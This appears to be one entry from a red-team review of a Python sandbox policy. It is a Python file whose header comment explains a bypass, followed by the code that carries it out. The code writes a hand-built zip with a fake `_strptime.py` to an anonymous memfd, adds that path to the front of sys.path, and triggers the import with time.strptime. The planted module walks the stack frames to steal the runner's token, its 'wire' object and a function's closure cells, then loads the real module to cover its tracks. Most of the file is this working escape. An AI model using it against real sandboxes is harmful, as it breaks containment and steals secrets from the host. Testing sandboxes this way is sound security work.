# a146 (a policy review's sixth round, twenty-eighth session; shown with stand-ins):
# g02 (every exercise: os, sys, time): runs a module of the learner's own with the real builtins (gc, eval, sys.modules, sys._getframe: prize 2; through the frames, the runner's frame and its token: prize 1; bank._call's closure cells: prize 3; prize 6: sys.path, which the import system the jail uses reads, changed): os.memfd_create + os.write make an anonymous file holding a zip (built by hand) with a `_strptime.py`; sys.path.insert(0, "/proc/self/fd/N") (a list a module holds, changed by a call: the policy refuses only stores to a module's attributes) puts it before the standard library, and time.strptime() imports _strptime (lazily: no exercise's module has imported it), which zipimport loads from the learner's file
import os
import sys
import time

PAYLOAD = b'''
import builtins, gc, sys
f = sys._getframe()
got = {"gc": gc, "eval": builtins.eval}
while f is not None:
    if "token" in f.f_locals and "wire" in f.f_locals:
        got["runner_frame"] = f
        got["token"] = f.f_locals["token"]
        got["wire"] = f.f_locals["wire"]
        bank = f.f_locals["args"][0]
        got["bank_call_cells"] = {n: c.cell_contents for n, c in zip(
            bank._call.__code__.co_freevars, bank._call.__closure__)}
    f = f.f_back
sys.modules["answer"].STOLEN = got
# then the real _strptime, so that time.strptime works as it should
sys.path.remove(MINE)
del sys.modules["_strptime"]
import importlib
real = importlib.import_module("_strptime")
sys.modules["_strptime"] = real
globals().update({k: v for k, v in vars(real).items() if not k.startswith("__")})
'''
STOLEN = {}


def crc32(data):
    crc = 0xFFFFFFFF
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ (0xEDB88320 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def le(n, size):
    return n.to_bytes(size, "little")


def zip_of(name, data):
    nm = name.encode()
    common = le(20, 2) + le(0, 2) + le(0, 2) + le(0, 2) + le(0x21, 2) + le(crc32(data), 4) \
        + le(len(data), 4) + le(len(data), 4) + le(len(nm), 2) + le(0, 2)
    local = le(0x04034B50, 4) + common + nm + data
    central = le(0x02014B50, 4) + le(20, 2) + common + le(0, 2) + le(0, 2) + le(0, 2) \
        + le(0, 4) + le(0, 4) + nm
    end = le(0x06054B50, 4) + le(0, 2) + le(0, 2) + le(1, 2) + le(1, 2) \
        + le(len(central), 4) + le(len(local), 4) + le(0, 2)
    return local + central + end


def transfer(bank, lock, src, dst, amount):
    fd = os.memfd_create("notes")
    path = f"/proc/self/fd/{fd}"
    os.write(fd, zip_of("_strptime.py", b"MINE = %r\n" % path.encode() + PAYLOAD.replace(
        b"sys.path.remove(MINE)", b"sys.path.remove(MINE.decode())")))
    sys.path.insert(0, path)
    time.strptime("7", "%d")  # imports _strptime: the learner's
    return STOLEN
